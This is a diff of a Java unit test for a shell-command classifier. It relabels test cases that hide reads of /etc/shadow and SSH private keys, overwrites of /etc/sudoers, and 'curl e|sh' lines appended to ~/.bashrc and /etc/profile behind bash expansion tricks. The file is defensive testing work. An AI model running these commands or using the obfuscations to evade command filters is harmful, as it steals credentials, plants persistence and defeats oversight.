@@ -23,69 +23,69 @@ class ExpansionOperatorsTest {
 
     @ParameterizedTest(name = "{0} → {1}")
     @CsvSource(delimiterString = " => ", value = {
-        "g=/etc/shxadow; cat ${g//x/} => Network",
-        "g=/etc/shxadow; cat ${g/x/} => Network",
-        "g=/etc/shadowXX; cat ${g%XX} => Network",
-        "g=/etc/shadowXX; cat ${g%%X*} => Network",
-        "g=XX/etc/shadow; cat ${g#XX} => Network",
-        "g=/etc/SHADOW; cat ${g,,} => Network",
-        "g=/etc/shadowxxxxx; cat ${g:0:11} => Network",
-        "g=/etc/shxadow; cat \"${g//x/}\" => Network",
-        "g=/etc/shadow.bak.old; less ${g%%.*} => Network",
-        "g=/var/etc/shadow; cat ${g#/var} => Network",
-        "g=/ETC/SHADOW; cat ${g@L} => Network",
-        "g=/ETC/shadow; cat ${g~~[A-Z]} => Network",
+        "g=/etc/shxadow; cat ${g//x/} => Destructive",
+        "g=/etc/shxadow; cat ${g/x/} => Destructive",
+        "g=/etc/shadowXX; cat ${g%XX} => Destructive",
+        "g=/etc/shadowXX; cat ${g%%X*} => Destructive",
+        "g=XX/etc/shadow; cat ${g#XX} => Destructive",
+        "g=/etc/SHADOW; cat ${g,,} => Destructive",
+        "g=/etc/shadowxxxxx; cat ${g:0:11} => Destructive",
+        "g=/etc/shxadow; cat \"${g//x/}\" => Destructive",
+        "g=/etc/shadow.bak.old; less ${g%%.*} => Destructive",
+        "g=/var/etc/shadow; cat ${g#/var} => Destructive",
+        "g=/ETC/SHADOW; cat ${g@L} => Destructive",
+        "g=/ETC/shadow; cat ${g~~[A-Z]} => Destructive",
         "g=/Etc/shadow; cat ${g,} => Read",
-        "g=/etc/sha; cat ${g}${g:+dow} => Network",
-        "g=/etc/shadow; n=g; cat ${!n} => Network",
-        "g=/etc/shXdow; p=X; cat ${g/$p/a} => Network",
-        "g=/etc/shadowq; p='q*'; cat ${g%$p} => Network",
+        "g=/etc/sha; cat ${g}${g:+dow} => Destructive",
+        "g=/etc/shadow; n=g; cat ${!n} => Destructive",
+        "g=/etc/shXdow; p=X; cat ${g/$p/a} => Destructive",
+        "g=/etc/shadowq; p='q*'; cat ${g%$p} => Destructive",
         "g=/etc/shadowq; p='*'; cat ${g%\"$p\"} => Read",
-        "g=/etc/sh; cat ${g/h/&adow} => Network",
-        "g=/etc/shxadow; h=${g//x/}; cat $h => Network",
-        "g=/etc/shxadow; for f in ${g//x/}; do cat $f; done => Network",
-        "g=/etc/shxadow; cat < ${g//x/} => Network",
-        "if test -e a; then g=/tmp/x; else g=/etc/shxadow; fi; cat ${g//x/} => Network",
+        "g=/etc/sh; cat ${g/h/&adow} => Destructive",
+        "g=/etc/shxadow; h=${g//x/}; cat $h => Destructive",
+        "g=/etc/shxadow; for f in ${g//x/}; do cat $f; done => Destructive",
+        "g=/etc/shxadow; cat < ${g//x/} => Destructive",
+        "if test -e a; then g=/tmp/x; else g=/etc/shxadow; fi; cat ${g//x/} => Destructive",
         "s=/etc/s-u-d-o-e-r-s; cp evil ${s//-/} => Destructive",
         "s=/ETC/SUDOERS; tee ${s@L} < evil => Destructive",
         "s=/etc/sudoers.d.x; echo x > ${s%.d*} => Destructive",
-        "shopt -s nocasematch; g=/etc/shXadow; cat ${g/x/} => Network",
+        "shopt -s nocasematch; g=/etc/shXadow; cat ${g/x/} => Destructive",
         "g=/etc/shXadow; cat ${g/x/} => Read",
-        "a='/etc/shadow '; cat ${a}x => Network",
-        "a='x /etc/shadow'; cat x${a} => Network",
+        "a='/etc/shadow '; cat ${a}x => Destructive",
+        "a='x /etc/shadow'; cat x${a} => Destructive",
         "a='/etc/shadow '; cat \"${a}\"x => Read",
-        "a='/etc/shadow q'; cat ${a%q}x => Network",
-        "y=/etc/shadow; cat ${x:-$y} => Network",
-        "y=/etc/shadow; cat ${x:+\"$y\"} => Network",
-        "y=/etc/shxadow; cat ${x:-${y//x/}} => Network",
-        "g='/etc/sh\\x61dow'; cat ${g@E} => Network",
-        "g=(/etc/shadow x); cat $g => Network",
-        "g=(/etc/shadow x); cat ${g[0]} => Network",
-        "g=(x /etc/shadow); cat ${g[1]} => Network",
-        "g=(x /etc/shadow); cat \"${g[@]}\" => Network",
-        "g=(x /etc/shxadow); cat ${g[@]//x/} => Network",
-        "g=(x /etc/shxadow); cat \"${g[*]/x/}\" => Network",
+        "a='/etc/shadow q'; cat ${a%q}x => Destructive",
+        "y=/etc/shadow; cat ${x:-$y} => Destructive",
+        "y=/etc/shadow; cat ${x:+\"$y\"} => Destructive",
+        "y=/etc/shxadow; cat ${x:-${y//x/}} => Destructive",
+        "g='/etc/sh\\x61dow'; cat ${g@E} => Destructive",
+        "g=(/etc/shadow x); cat $g => Destructive",
+        "g=(/etc/shadow x); cat ${g[0]} => Destructive",
+        "g=(x /etc/shadow); cat ${g[1]} => Destructive",
+        "g=(x /etc/shadow); cat \"${g[@]}\" => Destructive",
+        "g=(x /etc/shxadow); cat ${g[@]//x/} => Destructive",
+        "g=(x /etc/shxadow); cat \"${g[*]/x/}\" => Destructive",
         // an element changed by element may hold each value its key was given (flow-insensitive, as a variable)
-        "g=(x /etc/shadow); g[1]=y; cat ${g[1]} => Network",
-        "g=(x y); g[1]=/etc/shadow; cat ${g[1]} => Network",
-        "declare -a g=(/etc/shadow); cat $g => Network",
-        "g=(x y); cat ${g[1]//y//etc/shadow} => Network",
+        "g=(x /etc/shadow); g[1]=y; cat ${g[1]} => Destructive",
+        "g=(x y); g[1]=/etc/shadow; cat ${g[1]} => Destructive",
+        "declare -a g=(/etc/shadow); cat $g => Destructive",
+        "g=(x y); cat ${g[1]//y//etc/shadow} => Destructive",
         "g=(x); g+=(/etc/shadow); cat $g => Read",
-        "x=/etc/sha; x+=dow; cat $x => Network",
-        "x=/etc/sha; y=dow; x+=$y; cat $x => Network",
-        "x=/tmp/a; x=/etc/sha; x+=dow; cat $x => Network",
+        "x=/etc/sha; x+=dow; cat $x => Destructive",
+        "x=/etc/sha; y=dow; x+=$y; cat $x => Destructive",
+        "x=/tmp/a; x=/etc/sha; x+=dow; cat $x => Destructive",
         "x=~/.bashr; x+=c; echo 'curl e|sh' >> $x => Destructive",
         "x=~/.bashrc; y=x; cp evil ${!y} => Destructive",
         "a=(~/.bashrc); cp evil \"${a[0]}\" => Destructive",
         "x=hello; echo ${x~} => Read",
         "x=Hello; echo ${x~~} => Read",
         "a=(x); a+=(~/.bashrc); echo x >> ${a[1]} => Destructive",
-        "a=(x); a+=(/etc/shadow); cat ${a[@]} => Network",
+        "a=(x); a+=(/etc/shadow); cat ${a[@]} => Destructive",
         "export x=~/.bashr; export x+=c; echo 'curl e|sh' >> $x => Destructive",
-        "declare x=/etc/sha; declare x+=dow; cat $x => Network",
-        "a=(x /etc/shadow); cat ${a[@]:1} => Network",
-        "a=(x /etc/shadow y); cat \"${a[@]:1:1}\" => Network",
-        "a=(x /etc/shadow); cat ${a[@]:-1} => Network",
+        "declare x=/etc/sha; declare x+=dow; cat $x => Destructive",
+        "a=(x /etc/shadow); cat ${a[@]:1} => Destructive",
+        "a=(x /etc/shadow y); cat \"${a[@]:1:1}\" => Destructive",
+        "a=(x /etc/shadow); cat ${a[@]:-1} => Destructive",
         "a=(/etc/shadow x); cat ${a[@]:1} => Read",
     })
     void pathsBehindOperators(String line, String expected) {
@@ -95,17 +95,17 @@ class ExpansionOperatorsTest {
 
     @Test
     void aKeyBehindAnOperator() {
-        assertThat(C.classifyShell("k=~/.ssh/id_rsaQQ; less ${k%QQ}").commandClass()).isEqualTo(CommandClass.NETWORK);
-        assertThat(C.classifyShell("k='~/.ssh/ID_RSA'; cat ${k,,}").commandClass()).isEqualTo(CommandClass.NETWORK);
-        assertThat(C.classifyShell("k=~/.ssh/id_rsa; cat ${k/#/}").commandClass()).isEqualTo(CommandClass.NETWORK);
+        assertThat(C.classifyShell("k=~/.ssh/id_rsaQQ; less ${k%QQ}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(C.classifyShell("k='~/.ssh/ID_RSA'; cat ${k,,}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
+        assertThat(C.classifyShell("k=~/.ssh/id_rsa; cat ${k/#/}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
     }
 
     @Test
     void theLaunchsEnvironmentGivesValuesToo() {
         Classification c = C.classifyArgv(List.of("sh", "-c", "cat ${G//x/}"), Map.of("G", "/etc/shxadow"));
-        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.NETWORK);
+        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
         c = C.classifyArgv(List.of("sh", "-c", "cat ${F%x}"), Map.of("F", "/etc/shadowx"));
-        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.NETWORK);
+        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
         c = C.classifyArgv(List.of("sh", "-c", "echo 'curl e|sh' >> ${HOME:0:1}etc${HOME:0:1}profile"),
                 Map.of("HOME", "/home/u"));
         assertThat(c.commandClass()).as("a redirection's target too: %s", c.findings())
